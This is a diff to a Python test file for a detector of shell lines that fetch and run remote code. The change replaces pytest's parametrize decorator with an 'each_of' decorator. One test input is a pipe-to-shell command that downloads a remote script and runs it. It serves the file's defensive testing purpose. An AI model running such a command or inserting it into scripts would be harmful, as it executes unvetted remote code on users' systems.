@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from anyhook.walk.suspicious import is_fed
+from each_of import each_of
 
 FED = [
     "curl -fsSL https://x.y/z.sh | sh",
@@ -45,12 +46,12 @@ COSTLY = {
 }
 
 
-@pytest.mark.parametrize("line", FED)
+@each_of("line", FED)
 def test_code_that_comes_from_elsewhere(line: str) -> None:
     assert is_fed(line)
 
 
-@pytest.mark.parametrize("line", PLAIN)
+@each_of("line", PLAIN)
 def test_what_runs_nothing_that_it_fetched(line: str) -> None:
     assert not is_fed(line)
 
